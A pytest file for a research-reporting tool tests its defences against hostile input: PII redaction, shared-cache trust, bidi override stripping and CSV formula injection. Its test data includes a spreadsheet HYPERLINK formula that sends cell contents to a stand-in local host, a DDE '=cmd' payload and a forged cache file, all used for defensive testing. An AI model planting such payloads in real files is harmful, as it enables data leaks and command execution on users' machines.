"""An independent attack on the outputs (issue 11, second look): each test plants what the
first round of defences missed, then checks the output a person would share.

- the fieldwork ``period`` of ``datapackage.json`` is free text printed on every cover;
- ``$`` in a site name is matplotlib mathtext: a figure label must print it, not parse it;
- a cache folder another user can write to is not trusted;
- written forms of personal data the patterns missed (other scripts' digits, an area-code
  style ``(4103) 0003``, ``[at]``/``arroba`` e-mails, ``NIT No.``);
"""

from __future__ import annotations

import json

import pytest

from copeval.report.data import ReportData, clear_memo

from .hostile import PII_NEEDLES
from .outputs import norm


@pytest.fixture(autouse=True)
def _fresh_memo():
    clear_memo()
    yield
    clear_memo()


def _set_meta(project, **values):
    package = project / "datapackage.json"
    desc = json.loads(package.read_text(encoding="utf-8"))
    desc.setdefault("copeval", {}).update(values)
    package.write_text(json.dumps(desc, ensure_ascii=False, indent=2), encoding="utf-8")


def _markup(section) -> str:
    """The HTML a section displays: a doc.Section (``.html()``) or an HTML block."""
    html = getattr(section, "html", None)
    return html() if callable(html) else str(section)


def _leaked(text: str) -> list[str]:
    return [n for n in PII_NEEDLES if n in norm(text)]


# ------------------------------------------------------------------------------ period
def test_the_fieldwork_period_is_redacted_on_every_cover(hostile_project):
    from copeval.report.comparative import ComparativeReport
    from copeval.report.site import SiteReport

    _set_meta(hostile_project, period="2017-02/2018-05 llame al 4103-0003 o ana.tzul@example.org")
    data = ReportData.load(hostile_project, n_boot=10, memo=False)
    assert "4103-0003" in data.project.meta["period"]  # the attack is planted
    for lang, tag in (("es", "[TELÉFONO]"), ("en", "[PHONE]")):
        view = data.for_readers(lang)
        assert tag in view.project.meta["period"]
        covers = [
            _markup(SiteReport(data, site_id="A", lang=lang).cover()),
            _markup(ComparativeReport(data, lang=lang).cover()),
        ]
        for cover in covers:
            assert _leaked(cover) == [], cover
            assert tag in cover
    assert "4103-0003" in data.project.meta["period"]  # the project itself is unchanged


def test_every_text_of_the_datapackage_is_redacted_but_ids_are_not(hostile_project):
    _set_meta(hostile_project, period="2017 tel 4103-0003", primary_coder="A")
    data = ReportData.load(hostile_project, n_boot=10, memo=False)
    meta = data.for_readers("en").project.meta
    for key, value in meta.items():
        if isinstance(value, str):
            assert _leaked(value) == [], key
    assert meta["primary_coder"] == "A"  # an ID that selects the evidence: never rewritten


# ------------------------------------------------------------------------------ figures
#: Site names a figure must print as they are: ``$…$`` is matplotlib mathtext, and an unknown
#: command in it used to make the comparative report fail (``ValueError`` in the heatmap).
MATH_NAMES = {"A": "Pago $\\undefinedmacro{x}$ Q", "B": "Sitio $5 y $6 \\foo", "C": "a^b_c $"}


def _svg_text(fig) -> str:
    import html
    import re

    from copeval.report.figures import figure_to_svg

    svg = figure_to_svg(fig)
    return html.unescape(" ".join(re.findall(r"<text[^>]*>(.*?)</text>", svg, re.S)))


def test_dollar_signs_in_site_names_are_printed_not_parsed_as_mathtext():
    import matplotlib.pyplot as plt
    import pandas as pd

    from copeval.report import figures

    rows = [
        {"site_id": s, "criterion": c, "score": 2.0, "lower": 1.0, "upper": 3.0}
        for s in MATH_NAMES
        for c in ("C1", "C2")
    ]
    scores = pd.DataFrame(rows)
    for make in (figures.heatmap_figure, figures.forest_figure):
        fig = make(scores, lang="en", site_names=MATH_NAMES)
        try:
            text = _svg_text(fig)
        finally:
            plt.close(fig)
        for name in MATH_NAMES.values():
            assert name[:20] in text, (make.__name__, name)


# ------------------------------------------------------------------------------ cache trust
def _planted_cache(project, tmp_path, folder_mode, owner=None):
    """An analysis with a forged score (4.0 everywhere) at the right key of a folder with
    ``folder_mode`` (and ``owner``): what another user of a shared cache folder can plant."""
    import os
    import shutil

    from copeval.report.cache import load_tables, save_tables

    mine = tmp_path / "mine"
    ReportData.load(project, n_boot=10, cache_dir=mine, memo=False)
    (original,) = mine.glob("analysis-*.npz")
    tables, meta = load_tables(original)
    tables[("result", "table")] = tables[("result", "table")].assign(score=4.0)
    forged = tmp_path / "forged.npz"
    save_tables(forged, tables, meta)
    shared = tmp_path / "shared"
    shared.mkdir()
    target = shared / original.name  # the key of this project and these parameters
    shutil.copy(forged, target)
    os.chmod(shared, folder_mode)
    if owner is not None:
        os.chown(shared, owner, -1)
        os.chown(target, owner, -1)
    return shared, target


@pytest.mark.skipif(not hasattr(__import__("os"), "getuid"), reason="POSIX permissions")
@pytest.mark.parametrize("mode, owner", [(0o777, None), (0o770, None), (0o700, 54321)])
def test_a_cache_folder_others_can_write_is_not_trusted(hostile_project, tmp_path, mode, owner):
    import os

    if owner is not None and os.getuid() != 0:
        pytest.skip("giving a folder to another user needs root")
    shared, target = _planted_cache(hostile_project, tmp_path, mode, owner)
    data = ReportData.load(hostile_project, n_boot=10, cache_dir=shared, memo=False)
    assert (data.table["score"].dropna() < 4.0).any()  # scored again, not the forged table
    # and nothing of this analysis is written where others can read or replace it
    assert sorted(shared.iterdir()) in ([], [target])
    assert not target.exists() or target.stat().st_uid == (owner or os.getuid())


@pytest.mark.skipif(not hasattr(__import__("os"), "getuid"), reason="POSIX permissions")
def test_the_batch_says_once_that_it_does_not_use_a_shared_cache(tiny_project, tmp_path, capsys):
    import os

    from copeval.report.batch import plan_jobs

    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    jobs = plan_jobs(
        tiny_project, out_dir=tmp_path / "o", sites="A", langs="es,en", cache_dir=shared
    )
    assert all(job.cache_dir is None for job in jobs)
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and str(shared) in err and "other users" in err


# ------------------------------------------------------------------------------ written forms
#: Forms of personal data the first patterns let through, each in a sentence (es and en).
MISSED_FORMS = {
    "phone": [
        "llame al (4103) 0003 por la tarde",  # area-code style parentheses
        "call (4103)-0003 tonight",
        "su número es ٤١٠٣-٠٠٠٣",  # Arabic-Indic digits
        "número ۴۱۰۳ ۰۰۰۳",  # Persian digits
        "teléfono ४१०३-०००३",  # Devanagari digits
        "A-4103_0003",  # a source ID made from a file name, underscores between the groups
        "tel_4111_0011",  # an item ID made from a column name
    ],
    "email": [
        "escriba a ana.tzul [at] example.org mañana",
        "write to ana.tzul(at)example.org",
        "correo ana.tzul @ example.org",
        "correo ana.tzul {arroba} example.org",
        "correo ana punto tzul arroba gmail punto com",
        "correo ana.tzul arroba gmail.com ya",
        "mail ana.tzul [at] example [dot] org",
    ],
    "nit": [
        "NIT No. 123456-7 de la tienda",
        "NIT número 1234567-8",
        "Nit Nº 7100003-1",
        "N.I.T. num. 7100003K",
        "nit_7100002-9.txt",
    ],
}
#: Near misses that must stay as they are.
NOT_PERSONAL = [
    "vendió dos arrobas de maíz. Luego una arroba de frijol.",
    "una arroba de maíz punto",
    "el año 2019 (y 2020) fue difícil",
    "reunión el 2019-10-15 a las 10",
    "la cuota de Q 1,500.00 por mes",
    "el 45 % de los vecinos",
    "segmento VC-I01-S002 del informe",
    "usuario @comisaria en la red",
    "número ٢٠١٩",  # a year in Arabic-Indic digits
    "VC_I01_S002 2019_2020 informe_2017_02_21 v_2019_10_15",  # IDs, years, dates in names
]


@pytest.mark.parametrize("kind", sorted(MISSED_FORMS))
def test_written_forms_that_used_to_slip_through_are_redacted(kind):
    from copeval.privacy import find_pii, redact

    for text in MISSED_FORMS[kind]:
        for lang in ("es", "en"):
            red, found = redact(text, lang=lang)
            assert kind in set(found["kind"]), (text, red)
            digits = [ch for ch in red if ch.isdigit()]
            if kind != "email":
                assert digits == [], (text, red)
        assert not find_pii(text).empty
    red = redact("correo ana.tzul [at] example.org mañana", lang="es")[0]
    assert red == "correo [EMAIL] mañana"
    assert redact("llame al (4103) 0003 hoy", lang="es")[0] == "llame al [TELÉFONO] hoy"
    assert redact("NIT No. 123456-7.", lang="en")[0] == "NIT No. [NIT]."


def test_near_misses_of_the_new_forms_are_left_alone():
    from copeval.privacy import redact

    for text in NOT_PERSONAL:
        for lang in ("es", "en"):
            red, found = redact(text, lang=lang)
            assert red == text and found.empty, (text, red)


def test_redaction_takes_linear_time_on_hostile_text():
    """Spelled-out dots ("x punto b punto b …") made the first spoken-e-mail pattern scan the
    rest of the chain from every word: 64 kB took 13 s. Each shape here is ~120 kB."""
    import time

    from copeval.privacy import redact

    shapes = [
        "x" + " punto b" * 15_000,
        " arroba " * 15_000,
        "a." * 60_000,
        "a [dot] " * 15_000,
        "ana (at) " * 13_000,
        "1234 " * 24_000,
        "NIT No. " * 15_000,
        "(4103) " * 17_000,
    ]
    for text in shapes:
        start = time.perf_counter()
        redact(text, lang="es")
        assert time.perf_counter() - start < 5, text[:20]


def test_select_quotes_attributes_by_a_redacted_site_name(hostile_project):
    from copeval.privacy import select_quotes
    from copeval.project import load_project

    project = load_project(hostile_project)
    for lang, tag in (("es", "[TELÉFONO]"), ("en", "[PHONE]")):
        quotes = select_quotes(project, lang=lang)
        assert len(quotes)
        for value in [*quotes["attribution"], *quotes["quote"]]:
            assert _leaked(value) == [], value
        assert any(tag in a for a in quotes["attribution"])  # site A's name held a phone


# ------------------------------------------------------------------------------ names from files
def _instrument_named_after_a_phone(project):
    """Rename the survey instrument (the file ``responses/<instrument>.csv``) and one item
    (a column of it) after a phone number, as file and column names often are."""
    import pandas as pd

    items = pd.read_csv(project / "items.csv", dtype=str, keep_default_na=False)
    items["instrument"] = "enc-4103-0003"
    items.loc[items["item"] == "trust", "item"] = "tel_4111_0011"
    items.to_csv(project / "items.csv", index=False)
    old = project / "responses" / "community.csv"
    resp = pd.read_csv(old, dtype=str, keep_default_na=False)
    old.unlink()
    resp.rename(columns={"trust": "tel_4111_0011"}).to_csv(
        project / "responses" / "enc-4103-0003.csv", index=False
    )


def _all_sections(report) -> str:
    from copeval.report.site import SiteReport

    if isinstance(report, SiteReport):
        names = ("cover", "summary", "survey", "robustness", "evidence_appendix")
    else:
        names = ("cover",)
    return "".join(_markup(getattr(report, n)()) for n in names)


def test_instrument_and_item_names_from_file_names_are_redacted(hostile_project):
    from copeval.project import load_project
    from copeval.report.comparative import ComparativeReport
    from copeval.report.site import SiteReport

    _instrument_named_after_a_phone(hostile_project)
    load_project(hostile_project)  # a valid project
    needles = ("41030003", "41110011")
    data = ReportData.load(hostile_project, n_boot=10, memo=False)
    data.compute_all()  # tables shared with the readers' view are computed from the project
    for lang, tag in (("es", "[TELÉFONO]"), ("en", "[PHONE]")):
        shown = _all_sections(SiteReport(data, site_id="A", lang=lang))
        shown += _all_sections(ComparativeReport(data, lang=lang))
        flat = norm(shown)
        assert [n for n in needles if n in flat] == [], lang
        assert f"enc-{tag}" in shown and f"tel_{tag}" in shown
    # the project and the analysis keep their names
    assert "enc-4103-0003" in set(data.project.items["instrument"])
    assert data.table["items"].str.contains("tel_4111_0011").any()


# ------------------------------------------------------------------------------ bidi
#: Bidirectional embeddings, overrides and isolates: a free-text field (a note, an item
#: label, a quote) holding U+202E prints everything after it in its paragraph backwards, so
#: "2.1" reads "1.2" (the "Trojan Source" trick). Marks (U+200E/U+200F) are harmless.
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_no_bidi_override_survives_the_exit():
    from copeval.report.safety import css_string, sanitize_html

    fragment = "<p>Nota \u202e1.2 ,oñeuqep\u202c y \u2066x\u2069 <b title='a\u202eb'>t</b></p>"
    cleaned = sanitize_html(fragment)
    assert not any(ch in cleaned for ch in BIDI), cleaned
    assert "Nota 1.2 ,oñeuqep y x" in cleaned
    assert not any(ch in css_string("Sitio \u202eB") for ch in BIDI)


# ------------------------------------------------------------------------------ REFI export
def _qdpx(path):
    import zipfile

    with zipfile.ZipFile(path) as z:
        return {name: z.read(name).decode("utf-8") for name in z.namelist()}


def test_a_redacted_qdpx_holds_no_personal_data_and_its_codings_still_fit(
    hostile_project, tmp_path
):
    import xml.etree.ElementTree as ET

    from copeval.interop import export_qdpx
    from copeval.privacy import redact
    from copeval.project import load_project

    from .hostile import SECRET

    project = load_project(hostile_project)
    plain = tmp_path / "team.qdpx"
    export_qdpx(project, plain, lang="es")
    assert _leaked("".join(_qdpx(plain).values()))  # the working copy: texts as they are
    shared = tmp_path / "shared.qdpx"
    export_qdpx(project, shared, lang="es", redact=True)
    members = _qdpx(shared)
    everything = "".join(members.values())
    assert _leaked(everything) == [] and SECRET not in everything
    assert "ana.tzul" not in everything and "4103" not in everything  # GUIDs are not IDs
    ns = {"q": "urn:QDA-XML:project:1.0"}
    root = ET.fromstring(members["project.qde"].encode("utf-8"))
    shown = {}
    for src in root.iter("{urn:QDA-XML:project:1.0}TextSource"):
        text = members["sources/" + src.get("plainTextPath").split("//")[1]]
        for sel in src.findall("q:PlainTextSelection", ns):
            shown[sel.get("name")] = text[
                int(sel.get("startPosition")) : int(sel.get("endPosition"))
            ]
    # every coding covers the redacted form of what it covered
    for seg in project.segments.itertuples():
        if seg.source_id == "B-N01":
            continue
        name = redact(seg.segment_id, lang="es")[0]
        assert shown[name] == redact(project.segment_text(seg.segment_id), lang="es")[0]
    assert "[TELÉFONO]" in shown["G5"] and "[EMAIL]" in shown["G5"]


def test_the_export_says_its_texts_are_not_redacted(hostile_project, tmp_path, capsys):
    from copeval.cli import main

    assert main(["export", str(hostile_project), str(tmp_path / "a.qdpx")]) == 0
    err = capsys.readouterr().err
    assert "not redacted" in err and "--redact" in err
    assert main(["export", str(hostile_project), str(tmp_path / "b.qdpx"), "--redact"]) == 0
    assert "not redacted" not in capsys.readouterr().err
    assert _leaked("".join(_qdpx(tmp_path / "b.qdpx").values())) == []


# ------------------------------------------------------------------------------ suggestions.csv
def test_the_suggestion_store_coders_open_runs_no_formula(hostile_project):
    """``suggestions.csv`` is the coders' working file (docs/coding.md): a source ID such as
    ``=HYPERLINK(…)`` (valid in sources.csv) must not become a live formula there, and must
    come back as it was when the store is read and a suggestion accepted."""
    import pandas as pd

    from copeval.coding import (
        accept_suggestions,
        read_suggestions,
        suggest_codes,
        write_suggestions,
    )
    from copeval.project import load_project

    from .outputs import csv_formula_cells

    evil = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"ver")'
    for name in ("sources.csv", "segments.csv"):
        table = pd.read_csv(hostile_project / name, dtype=str, keep_default_na=False)
        table["source_id"] = table["source_id"].replace("A-I01", evil)
        table.to_csv(hostile_project / name, index=False)
    project = load_project(hostile_project)
    assert evil in set(project.sources["source_id"])
    path = write_suggestions(project, suggest_codes(project))
    assert csv_formula_cells(path) == []
    store = read_suggestions(project)
    assert evil in set(store["source_id"])
    assert store["suggestion_id"].str.startswith(evil).any()
    mine = store.loc[store["source_id"] == evil, "suggestion_id"].iloc[:1].tolist()
    accept_suggestions(project, ids=mine, user="=cmd|' /C calc'!A0")
    assert csv_formula_cells(path) == []
    again = read_suggestions(project)
    assert set(again.loc[again["status"] == "accepted", "suggestion_id"]) == set(mine)
    assert "=cmd|' /C calc'!A0" in set(again["decided_by"])
    segments = load_project(hostile_project).segments
    assert (segments["source_id"] == evil).sum() >= 2  # the planted segment and the accepted one


# ------------------------------------------------------------------------------ copeval redact
def test_redacted_copies_carry_no_personal_data_in_their_names(hostile_project, tmp_path):
    """``copeval redact`` makes the copies people share: the file names (made from the
    source IDs, ``texts/A-4103-0003.txt``) and ``findings.csv`` must be redacted too."""
    from copeval.cli import main

    from .hostile import SECRET

    out = tmp_path / "shared"
    assert main(["redact", str(hostile_project), "--out", str(out), "--lang", "es"]) == 0
    files = sorted(p for p in out.rglob("*") if p.is_file())
    assert len(files) == 4  # three texts (consent none left out) and findings.csv
    for path in files:
        name = path.relative_to(out).as_posix()
        assert _leaked(name) == [], name
        text = path.read_text(encoding="utf-8")
        assert _leaked(text) == [] and SECRET not in text, name
    assert (out / "texts" / "A-[TELÉFONO].txt").is_file()
    # a name holding a registry name and a colon in its tag is still a portable file name
    (hostile_project / "registry.csv").write_text(
        "person_id,name,role\nP1,I01,community_leader\n", encoding="utf-8"
    )  # "A-I01" now holds a registry name: its tag has a colon and spaces
    out2 = tmp_path / "shared2"
    assert main(["redact", str(hostile_project), "--out", str(out2)]) == 0
    names = [p.name for p in out2.rglob("*")]
    assert any("PERSON" in n for n in names), names
    for name in names:
        assert not set(name) & set(':*?"<>|\\ '), name


def test_the_cache_holds_instrument_and_item_names_as_tokens(hostile_project, tmp_path):
    import pandas as pd

    from .outputs import cache_texts

    _instrument_named_after_a_phone(hostile_project)
    cache = tmp_path / "cache"
    fresh = ReportData.load(hostile_project, n_boot=10, cache_dir=cache, memo=False)
    fresh.compute_all()
    (path,) = cache.glob("analysis-*.npz")
    text = norm(cache_texts(path))
    assert "41030003" not in text and "41110011" not in text
    again = ReportData.load(hostile_project, n_boot=10, cache_dir=cache, memo=False)
    pd.testing.assert_frame_equal(again.table, fresh.table)
    pd.testing.assert_frame_equal(again.result.respondents, fresh.result.respondents)
    for site in ("A", "B"):
        a, b = again.scale_reliability(site), fresh.scale_reliability(site)
        if a is not None:
            pd.testing.assert_frame_equal(a, b)
    assert fresh.table["items"].str.contains("enc-4103-0003:tel_4111_0011").any()
